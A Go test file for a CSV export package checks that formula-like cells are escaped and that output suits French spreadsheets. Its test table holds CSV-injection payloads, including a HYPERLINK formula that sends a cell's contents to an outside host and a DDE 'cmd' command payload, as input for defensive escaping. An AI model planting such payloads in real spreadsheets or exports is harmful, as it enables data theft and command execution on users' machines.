package csvexport_test

import (
	"bytes"
	"encoding/csv"
	"math"
	"strings"
	"testing"

	"essor/internal/csvexport"
)

// Every cell a spreadsheet would run as a formula comes out as text; the
// numbers Essor writes stay numbers, negative ones included.
func TestCellSafe(t *testing.T) {
	for _, c := range []struct {
		cell csvexport.Cell
		want string
	}{
		{csvexport.Text(`=HYPERLINK("http://x/?"&A1,"Cliquez")`), `'=HYPERLINK("http://x/?"&A1,"Cliquez")`},
		{csvexport.Text("+1+cmd|' /C calc'!A0"), "'+1+cmd|' /C calc'!A0"},
		{csvexport.Text("@SUM(1+1)"), "'@SUM(1+1)"},
		{csvexport.Text("-2+3"), "'-2+3"},
		{csvexport.Text("-2"), "'-2"}, // typed by someone: text, even when it looks like a number
		{csvexport.Text("\t=1+1"), "'\t=1+1"},
		{csvexport.Text("\r=1+1"), "'\r=1+1"},
		{csvexport.Text("Crèche = garde"), "Crèche = garde"},
		{csvexport.Text("'déjà cité'"), "'déjà cité'"},
		{csvexport.Text(""), ""},
		{csvexport.Int(-12), "-12"},
		{csvexport.Int(0), "0"},
		{csvexport.Decimal(-0.5), "-0,5"},
		{csvexport.Decimal(45000.25), "45000,25"},
		{csvexport.Decimal(math.Inf(1)), "'+Inf"}, // not a plain number: treated as text
		{csvexport.Decimal(math.Inf(-1)), "'-Inf"},
		{csvexport.Decimal(math.NaN()), "NaN"},
	} {
		if got := c.cell.Safe(); got != c.want {
			t.Errorf("%+v → %q, want %q", c.cell, got, c.want)
		}
	}
}

// The file reads back in a CSV parser as a French spreadsheet would: BOM,
// ";" between fields, CRLF, quoted ";", quotes and line breaks, decimal
// commas, and the hostile cells as text.
func TestWriteForFrenchSpreadsheets(t *testing.T) {
	var buf bytes.Buffer
	rows := [][]csvexport.Cell{
		{csvexport.Text("Emplois; créés"), csvexport.Text("Habitat « partagé » \"test\"\nsur deux lignes"), csvexport.Decimal(3.5)},
		{csvexport.Text("=1+1"), csvexport.Text("\tonglet"), csvexport.Int(-4)},
		{csvexport.Text("\r=2"), csvexport.Text("-"), csvexport.Decimal(-1.25)},
	}
	if err := csvexport.Write(&buf, []string{"Intitulé", "Libellé", "Valeur"}, rows); err != nil {
		t.Fatal(err)
	}
	raw := buf.String()
	if !strings.HasPrefix(raw, "\ufeffIntitulé;Libellé;Valeur\r\n") {
		t.Fatalf("no byte order mark, separator or CRLF: %q", raw)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(raw, "\ufeff")))
	r.Comma = ';'
	got, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"Intitulé", "Libellé", "Valeur"}, {"Emplois; créés", "Habitat « partagé » \"test\"\nsur deux lignes", "3,5"},
		{"'=1+1", "'\tonglet", "-4"},
		// A carriage return inside a field is dropped by the CRLF writer:
		// without the prefix, "\r=2" would have become the formula "=2".
		{"'=2", "'-", "-1,25"}}
	if len(got) != len(want) {
		t.Fatalf("read back %q", got)
	}
	for i := range want {
		if strings.Join(got[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("row %d: %q, want %q", i, got[i], want[i])
		}
	}
}
